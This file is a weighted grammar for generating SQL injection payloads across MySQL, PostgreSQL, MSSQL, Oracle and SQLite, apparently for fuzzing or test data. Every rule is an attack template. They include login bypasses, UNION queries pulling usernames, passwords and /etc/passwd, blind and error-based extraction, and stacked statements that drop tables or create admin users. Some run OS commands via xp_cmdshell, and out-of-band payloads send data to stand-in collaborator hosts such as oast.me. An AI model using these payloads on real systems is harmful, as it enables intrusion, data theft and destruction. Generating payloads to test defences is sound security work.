# SQL injection. Contexts (string, numeric, parenthesised, ORDER BY), DBMS
# dialects (MySQL, PostgreSQL, MSSQL, Oracle, SQLite), and the in-SQL
# evasions: comments as whitespace, version comments, case, odd whitespace.

technique = [4] "tautology" | [4] "union_select" | [2] "error_based" | [3] "time_blind"
	| [3] "boolean_blind" | [2] "stacked" | [2] "order_probe" | [1] "out_of_band"
	| [2] "auth_bypass" | [1] "function_encoded" ;
place = [6] "param" | [3] "query" | [2] "body" | [1] "cookie" | [1] "header" | [1] "path" ;
target = [5] "id" | [3] "text" | [1] "any" ;
encode = [6] "none" | [4] "raw" | [3] "pct" | [2] "double" | [2] "mixed" | [1] "unicode"
	| [1] "full" | [1] "html" | [1] "overlong" ;
param = "id" | "q" | "search" | "sort" | "order" | "filter" | "user" | "category"
	| "item" | "page" | "limit" | "where" | "name" | "pid" ;
header = "User-Agent" | "Referer" | "X-Forwarded-For" | "X-Client-Id" | "X-Tenant" ;
cookie = "tracking_id" | "lang" | "cart" | "pref" | "uid" ;

sp = [8] " " | [3] "/**/" | "/*" @word "*/" | "\t" | "\n" | "\r\n" | "\x0b" | "\x0c"
	| "/*!" @int(10000,99999) "*/" | "  " ;
sp0 = [3] "" | sp ;
brk = [5] "'" | [2] "" | "\"" | "')" | "\")" | "'))" | ")" | "`" | "%'" | "')))" ;
lead = [3] "" | @int | "-1" | "0" | "1" | @word | "admin" ;
cmt = [3] "" | "-- " | "-- -" | "--+" | "#" | "/*" | ";--" | "-- " @word | ";\0" | "`" ;
or = [4] i"or" | "||" | i"xor" ;
and = [4] i"and" | "&&" ;
num = @int(0,99) | "1" | "0x" @hex(2,4) ;
str = "'" @word "'" | "'a'" | "''" | "\"x\"" ;
true_cond = "1=1" | "2>1" | "'a'='a'" | "'1'='1" | i"true" | "1" | "3-1=2" | i"not false"
	| "1 " i"like" " 1" | num "=" num | i"'x' like 'x'" | "0x41=0x41" | "1 " i"between" " 0 " i"and" " 2"
	| i"isnull(null)" | "'" @word "'='" @word "'" ;
tautology = lead brk sp0 or sp true_cond sp0 cmt | lead brk sp or sp "'" @alnum(1,3) "'='" @alnum(1,3) ;

union_select = lead brk sp union sp select sp cols (sp from)? sp0 cmt
	| "-" @int sp union sp select sp cols sp0 cmt
	| lead brk sp union sp "(" select sp cols ")" sp0 cmt ;
union = i"union" | i"union" sp i"all" | i"union" sp i"distinct" | "/*!" i"union" "*/" | i"UNiOn" ;
select = i"select" | "/*!" i"select" "*/" | i"select" sp i"distinct" | i"sel/**/ect" ;
cols = col | col "," col | col "," col "," col | col ("," col){2,8} ;
col = [3] i"null" | num | "@@version" | i"version()" | i"user()" | i"database()"
	| i"current_user" | i"schema_name" | str | "0x" @hex(6,12) | i"char(" @int(60,120) "," @int(60,120) ")"
	| i"table_name" | i"column_name" | i"username" | i"password" | i"concat(" col ",0x3a," col ")"
	| i"group_concat(" col ")" | i"concat_ws(0x3a," col "," col ")" | i"string_agg(" col ",',')"
	| i"load_file('/etc/passwd')" | i"@@datadir" | i"sqlite_version()" | i"banner" ;
from = i"from" sp table (sp i"where" sp true_cond)? (sp i"limit" sp num ("," num)?)? ;
table = i"information_schema.tables" | i"information_schema.columns" | i"users" | i"customers"
	| i"mysql.user" | i"pg_catalog.pg_tables" | i"pg_shadow" | i"sqlite_master" | i"sys.objects"
	| i"dual" | i"all_tables" | i"v$version" | i"master..sysdatabases" | i"accounts" ;

error_based = lead brk sp and sp err_fn sp0 cmt | lead brk sp or sp err_fn sp0 cmt
	| lead brk sp0 "+" sp0 err_fn sp0 cmt ;
err_fn = i"extractvalue(1,concat(0x7e,(" sub ")))" | i"updatexml(1,concat(0x7e,(" sub "),0x7e),1)"
	| i"convert(int,(" sub "))" | i"cast((" sub ") as int)" | i"1=ctxsys.drithsx.sn(1,(" sub "))"
	| i"exp(~(select * from(" sub ")x))" | i"geometrycollection((select * from(select * from(" sub ")a)b))"
	| "(" i"select 1 from(select count(*),concat((" sub "),floor(rand(0)*2))x from information_schema.tables group by x)a)"
	| i"1=convert(int,@@version)" | i"utl_inaddr.get_host_name((" sub "))" | i"json_keys((" sub "))" ;
sub = i"select" sp info | i"select" sp col sp i"from" sp table sp i"limit" sp "1" | "@@version" ;
info = i"version()" | i"user()" | i"database()" | i"current_user" | "@@version" | i"@@hostname"
	| i"banner from v$version where rownum=1" | i"name from sys.databases" ;

time_blind = lead brk sp0 (and | or) sp sleep sp0 cmt | lead brk ";" sp0 sleep sp0 cmt
	| lead brk sp0 "+" sp0 sleep sp0 "+" sp0 brk cmt | "(" sleep ")" | sleep ;
sleep = i"sleep(" @int(1,15) ")" | i"benchmark(" @int(1000000,9000000) ",md5(" @int ")" ")"
	| i"pg_sleep(" @int(1,15) ")" | i"waitfor delay '0:0:" @int(1,15) "'"
	| i"dbms_pipe.receive_message(('" @word "')," @int(1,15) ")"
	| "(" i"select*from(select(sleep(" @int(1,9) ")))" @word ")"
	| i"if(" true_cond ",sleep(" @int(1,9) "),0)"
	| i"case when (" true_cond ") then pg_sleep(" @int(1,9) ") else pg_sleep(0) end"
	| i"randomblob(" @int(100000000,900000000) ")" | i"1 and 1=(select 1 from pg_sleep(" @int(1,9) "))" ;

boolean_blind = lead brk sp and sp bool sp0 cmt | lead brk sp and sp bool sp and sp brk "1" ;
bool = true_cond | "1=2" | i"substring(" info "," @int(1,20) ",1)='" @alnum(1,1) "'"
	| i"ascii(substr((" sub ")," @int(1,20) ",1))>" @int(40,120)
	| i"length(database())>" @int(1,20) | i"exists(select * from users)"
	| i"mid(version()," @int(1,9) ",1)='" @digits(1,1) "'" | i"(select count(*) from " table ")>0"
	| i"ord(mid((" sub ")," @int(1,20) ",1))>" @int(40,120) | i"0x" @hex(2,2) "=0x" @hex(2,2) ;

stacked = lead brk ";" sp0 stmt sp0 cmt | lead ";" sp0 stmt sp0 cmt ;
stmt = i"drop" sp i"table" sp table | i"insert into users(username,role) values('" @word "','admin')"
	| i"update users set role='admin' where id=" @int | i"delete from " table
	| i"exec xp_cmdshell '" ("whoami" | "ipconfig" | "net user") "'" | i"shutdown"
	| i"select pg_sleep(" @int(1,9) ")" | i"create user " @word " identified by '" @alnum "'"
	| i"declare @q varchar(99);set @q='\\\\" @word ".oast.me\\a';exec master.dbo.xp_dirtree @q"
	| i"copy (select '') to program 'id'" | i"set @a=1;select @a" ;

order_probe = lead brk sp order sp @int(1,30) sp0 cmt | lead brk sp i"group" sp i"by" sp @int(1,30) sp0 cmt
	| lead brk sp i"having" sp true_cond sp0 cmt | i"(case when (" true_cond ") then id else price end)"
	| i"if(" bool ",id,name)" | "1," i"(select " @int " from " table ")" ;
order = i"order" sp i"by" | i"order" "/**/" i"by" ;

out_of_band = lead brk sp and sp oob sp0 cmt | lead brk ";" sp0 oob sp0 cmt ;
oob = i"load_file(concat('\\\\\\\\',(" sub "),'." @word ".oast.me\\\\a'))"
	| i"exec master..xp_dirtree '//" @word ".burpcollaborator.net/a'"
	| i"utl_http.request('http://" @word ".oastify.com/'||(" sub "))"
	| i"(select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://" @word ".oast.pro/\"> %x;]>'),'/l') from dual)"
	| i"copy (select '') to program 'nslookup " @word ".oast.live'" ;

auth_bypass = user_guess brk sp0 cmt | user_guess brk sp or sp true_cond sp0 cmt
	| brk sp or sp brk brk "=" brk | "' " or " ''='" | "\" " or " \"\"=\"" | "') " or " ('1'='1"
	| user_guess "'/*" | "' " or " 1=1 " i"limit" " 1 -- -" ;
user_guess = "admin" | "administrator" | "root" | @word | "" ;

function_encoded = lead brk sp or sp i"char(" @int(48,57) ")=" i"char(" @int(48,57) ")" sp0 cmt
	| lead brk sp union sp select sp i"unhex('" @hex(8,16) "')" sp0 cmt
	| lead brk sp and sp i"0x" @hex(8,16) "=" i"0x" @hex(8,16) sp0 cmt
	| lead brk sp0 "||" sp0 i"chr(" @int(65,90) ")||" i"chr(" @int(65,90) ")" sp0 cmt
	| lead brk sp and sp i"concat(char(" @int(65,90) "),char(" @int(65,90) "))" "=" str sp0 cmt ;
